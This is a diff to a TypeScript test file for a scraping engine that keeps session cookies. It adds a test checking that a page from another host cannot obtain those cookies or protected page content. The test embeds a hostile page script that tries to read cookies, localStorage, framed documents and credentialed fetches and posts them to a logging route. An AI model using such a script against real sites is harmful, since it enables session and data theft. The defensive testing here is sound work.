@@ -12,6 +12,8 @@ import { startTable } from "../store/engines.ts";
 const table = await startTable();
 let engine: Engine;
 let site: Site;
+/** A site of another host. */
+let other: Site;
 let key = newSessionKey();
 /** Tokens that the site takes. */
 let valid: Set<string>;
@@ -24,7 +26,8 @@ const LOGIN =
 
 beforeAll(async () => {
   site = await startSite();
-  engine = await startEngine([site.host], {
+  other = await startSite();
+  engine = await startEngine([site.host, foreign("")], {
     wrap: (scrape) => (job, context) => {
       owner += 1;
       const deps = { table, readSecrets: async () => new Map([[SESSION_KEY, key]]), now: () => new Date() };
@@ -35,7 +38,10 @@ beforeAll(async () => {
 afterAll(async () => {
   await engine.close();
   await site.close();
+  await other.close();
 });
+/** The host of the other site, and a path. Its name differs, because cookies are those of all ports. */
+const foreign = (path: string) => `${other.host.replace("127.0.0.1", "localhost")}${path}`;
 
 const tokenOf = (cookie = "") => /token=(\w+)/.exec(cookie)?.[1] ?? "";
 
@@ -214,4 +220,42 @@ test("a state that is too large is not kept, and the run warns", async () => {
   const { warnings, failure } = await run();
   expect(failure).toBeUndefined();
   expect(warnings.map(({ code }) => code)).toEqual(["session_not_kept"]);
+});
+
+test("a page of another host gets neither the kept cookies nor what they show", async () => {
+  const got: string[] = [];
+  other.setRoute("/log", async (request, response) => {
+    const body = Buffer.concat(await Array.fromAsync(request as AsyncIterable<Buffer>)).toString();
+    got.push(`${request.url} ${JSON.stringify(request.headers)} ${body}`);
+    sendHtml(response, "logged");
+  });
+  const orders = site.url("/orders");
+  other.setRoute(
+    "/attack",
+    `<ul><li>One</li></ul><iframe name=frame src="${orders}"></iframe><img src="${orders}"><script>
+      const tell = (text) => fetch("/log", { method: "POST", body: String(text) });
+      const read = async (what) => { try { await tell(await what()); } catch (error) { await tell("refused"); } };
+      onload = async () => {
+        await read(() => document.cookie + JSON.stringify(localStorage));
+        for (const mode of ["cors", "no-cors"])
+          await read(async () => (await fetch("${orders}", { mode, credentials: "include" })).text());
+        await read(() => frames[0].document.cookie + frames[0].document.body.innerHTML);
+        await read(() => frames[0].localStorage.theme);
+        await read(() => { const opened = open("${orders}"); return opened.document.cookie; });
+        await read(() => { navigator.sendBeacon("/log", document.cookie); return "beacon"; });
+        document.body.append("done");
+      };
+    </script>`,
+  );
+  await run();
+  const attack: Step[] = [
+    { type: "visit", url: `http://${foreign("/attack")}` },
+    { type: "wait", text: "done", timeout_ms: 20_000 },
+    list,
+  ];
+  const { failure, rows } = await run({}, attack);
+  expect(failure).toBeUndefined();
+  expect(rows).toEqual([{ text: "One" }]);
+  expect(got.length).toBeGreaterThanOrEqual(7);
+  for (const text of [...valid, "Order 1", "dark", "Sign out"]) expect(got.join()).not.toContain(text);
 });
